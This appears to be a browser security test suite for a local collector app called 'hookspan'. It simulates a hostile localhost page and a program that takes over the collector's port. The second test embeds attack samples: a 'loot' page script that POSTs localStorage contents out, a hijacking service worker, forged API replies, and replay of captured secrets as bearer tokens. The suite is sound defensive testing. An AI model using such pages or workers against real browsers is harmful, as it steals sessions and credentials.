// Attacks a signed-in browser: by a page of another program on this machine, and by a program that takes the port of a
// stopped collector. Afterwards, everything that they have received is tried, and must be worthless.
import assert from "node:assert/strict";
import { createServer, request } from "node:http";
import { after, before, test } from "node:test";
import { Collector, noCollector, RECORDED } from "./collector.mjs";
import { becomes, chromium, eventually, missing } from "./support.mjs";

const skip = await missing(noCollector);
let collector;
let browser;

before(async () => {
  if (skip) return;
  collector = await new Collector().start();
  await collector.take(RECORDED);
  browser = await chromium(collector.base);
  const first = await browser.page();
  await first.tab.goto(collector.login);
  await eventually("signed in", () => !first.tab.url().includes("/login"));
  await first.close();
});

after(async () => {
  await browser?.close();
  await collector?.close();
});

/** A program that listens, records what it receives, and sends the given answers. */
async function thief(port, answer) {
  const heard = [];
  const server = createServer((asked, reply) => {
    let body = "";
    asked.on("data", (data) => { body += data; });
    asked.on("end", () => {
      heard.push({ method: asked.method, url: asked.url, headers: asked.headers, body });
      answer(asked, reply, body);
    });
  });
  await new Promise((resolve, reject) => { server.once("error", reject).listen(port, "127.0.0.1", resolve); });
  const close = () => new Promise((resolve) => { server.close(resolve); server.closeAllConnections(); });
  return { heard, port: server.address().port, close };
}

/** The status of a request that a program sends, with any headers. */
function send({ method = "GET", url, headers = {}, body = "" }) {
  return new Promise((resolve, reject) => {
    const asked = request({ agent: false, host: "127.0.0.1", port: collector.port, method, path: url, headers: { ...headers, host: `127.0.0.1:${collector.port}` } }, (answer) => {
      answer.resume();
      answer.on("end", () => resolve(answer.statusCode));
    });
    asked.on("error", reject);
    asked.end(body);
  });
}

/** Opens a page in which errors are expected, because the attacks cause some. */
async function visit(path) {
  const tab = await browser.context.newPage();
  await tab.goto(path.startsWith("http") ? path : browser.base + path);
  return tab;
}

const secrets = (text) => [...text.matchAll(/[0-9a-f]{32,}/g)].map(([found]) => found);

test("a page on another port of this machine gets no cookie, no key, and no answer", { skip }, async () => {
  const other = await thief(0, (_, reply) => reply.setHeader("Content-Type", "text/html").end("<title>other</title>"));
  const mine = await visit("/");
  await mine.locator(".link-connected").waitFor();
  const tab = await visit(`http://127.0.0.1:${other.port}/`);
  await becomes(() => tab.evaluate(() => ({ cookie: document.cookie, stored: Object.keys(localStorage), session: Object.keys(sessionStorage) })), { cookie: "", stored: [], session: [] });
  const read = await tab.evaluate(async (base) => {
    const tries = [["/api/v1/sessions", {}], ["/api/v1/sessions", { mode: "no-cors", credentials: "include" }], ["/api/v1/login/challenge", { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" }]];
    return Promise.all(tries.map(([path, options]) => fetch(base + path, options).then((answer) => answer.text(), () => "")));
  }, browser.base);
  assert.deepEqual(read, ["", "", ""]);
  for (const { headers } of other.heard) assert.ok(!("cookie" in headers) && !("authorization" in headers), JSON.stringify(headers));
  await tab.close();
  await mine.close();
  await other.close();
});

test("whoever takes the port of a stopped collector gets nothing that is of use, and the open tab comes back", { skip }, async () => {
  const open = await visit("/sessions");
  await open.locator("tbody tr").first().waitFor();
  await open.locator(".link-connected").waitFor();
  await collector.stop();

  // The program answers every request with a lie, and serves a page of its own.
  const lies = ["{\"token_required\":true,\"challenge\":{\"nonce\":\"00\",\"proof\":\"00\"}}", "{\"token_required\":false}", "{\"token_required\":true,\"challenge\":null}", "{}"];
  let turn = 0;
  const loot = "<!doctype html><title>loot</title><script>addEventListener('load', () => fetch('/loot', { method: 'POST', body: JSON.stringify(Object.entries(localStorage)) }))</script>";
  const worker = "self.addEventListener('fetch', (event) => event.respondWith(new Response('<title>worker</title>', { headers: { 'Content-Type': 'text/html' } })))";
  const port = await thief(collector.port, (asked, reply) => {
    if (asked.url.startsWith("/api/")) return reply.setHeader("Content-Type", "application/json").end(lies[turn++ % lies.length]);
    if (asked.url === "/evil-worker.js") return reply.setHeader("Content-Type", "text/javascript").end(worker);
    return reply.setHeader("Content-Type", "text/html").end(loot);
  });
  // The stream reconnects within seconds. Meanwhile the user continues to use the page.
  await open.evaluate(() => { history.pushState(null, "", "/search?q=secret-words"); dispatchEvent(new PopStateEvent("popstate")); });
  await eventually("the open tab has asked", () => port.heard.some(({ url }) => url.startsWith("/api/")), 20_000);
  await new Promise((resolve) => { setTimeout(resolve, 7_000); });
  const fooled = await visit("/health");
  await eventually("the thief's page has read what is stored", () => port.heard.some(({ url }) => url === "/loot"));
  const stolen = new Map(JSON.parse(port.heard.find(({ url }) => url === "/loot").body)).get("hookspan-page");
  await fooled.evaluate(() => navigator.serviceWorker.register("/evil-worker.js", { scope: "/" }).then(() => navigator.serviceWorker.ready)).catch(() => {});
  await fooled.close();
  await port.close();

  for (const { method, url, headers, body } of port.heard.filter((one) => one.url.startsWith("/api/"))) {
    assert.equal(`${method} ${url}`, "POST /api/v1/login/challenge", "nothing but the question who it is");
    assert.deepEqual(Object.keys(JSON.parse(body)).sort(), ["id", "page_nonce"]);
    assert.ok(!("authorization" in headers) && !("cookie" in headers), JSON.stringify(headers));
  }
  assert.deepEqual(port.heard.filter(({ url }) => url.startsWith("/a/")), [], "the open tab fetches no script from it");
  assert.ok(!JSON.stringify(port.heard.filter(({ url }) => url !== "/loot")).includes("secret-words"));

  await collector.start();
  // Sends everything again that the program has recorded, and tries every secret in it as a token and as a code.
  for (const one of port.heard.filter(({ url }) => url.startsWith("/api/"))) {
    assert.ok((await send(one)) < 500);
    for (const path of ["/api/v1/sessions", "/api/v1/stream", "/api/v1/access"]) assert.equal(await send({ url: path, headers: one.headers }), 401, path);
  }
  const found = new Set(secrets(JSON.stringify(port.heard)));
  for (const secret of found) {
    assert.equal(await send({ url: "/api/v1/sessions", headers: { authorization: `Bearer ${secret}` } }), 401);
  }
  assert.ok(stolen, "what lets other tabs in was read");
  const [id] = stolen.split(".");
  const asked = await fetch(`${browser.base}/api/v1/login/challenge`, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ id, page_nonce: "0123456789abcdef" }) }).then((answer) => answer.json());
  assert.equal(asked.challenge, null, "it ended with the collector that it was for");

  // The open tab has its key in memory only. It is signed in again without a reload.
  await open.locator(".link-connected").waitFor({ timeout: 60_000 });
  await open.getByRole("searchbox").first().waitFor();
  await open.close();
});

test("a service worker that the thief left is gone after the next visit", { skip }, async () => {
  const login = collector.login;
  const tab = await visit("/health");
  await eventually("no worker is left", () => tab.evaluate(() => navigator.serviceWorker.getRegistrations().then((found) => found.length === 0)).catch(() => false), 20_000);
  await tab.close();
  const next = await browser.context.newPage();
  await next.goto(login);
  await eventually("signed in", () => !next.url().includes("/login"));
  await next.getByRole("navigation", { name: "Pages" }).waitFor();
  await next.close();
});

test("a code signs in once, and the page says what to do when it does not", { skip }, async () => {
  const login = collector.login;
  const own = await chromium(collector.base);
  try {
    const one = await own.context.newPage();
    await one.goto(login);
    await eventually("signed in", () => !one.url().includes("/login"));
    const other = await chromium(collector.base);
    const two = await other.context.newPage();
    await two.goto(login);
    await two.getByRole("heading", { name: "Sign in" }).waitFor();
    const text = await two.locator("main").textContent();
    assert.ok(text.includes("hookspan open") && !/bearer/i.test(text), text);
    await eventually("the code is gone from the address", () => !two.url().includes("#c="));
    // The whole address can be pasted as well.
    await two.getByLabel("Address or code").fill(collector.login);
    await two.getByRole("button", { name: "Sign in" }).click();
    await eventually("signed in", () => !two.url().includes("/login"));
    await other.close();
  } finally {
    await own.close();
  }
});

test("a browser that is signed out on the Privacy page is out at once, and asks for a code", { skip }, async () => {
  const own = await chromium(collector.base);
  try {
    const tab = await own.context.newPage();
    await tab.goto(collector.login);
    await eventually("signed in", () => !tab.url().includes("/login"));
    await tab.goto(`${own.base}/privacy`);
    await tab.getByRole("row", { name: /this one/ }).getByRole("button").click();
    await tab.getByRole("heading", { name: "Sign in" }).waitFor();
    await tab.reload();
    await tab.getByRole("heading", { name: "Sign in" }).waitFor();
  } finally {
    await own.close();
  }
});
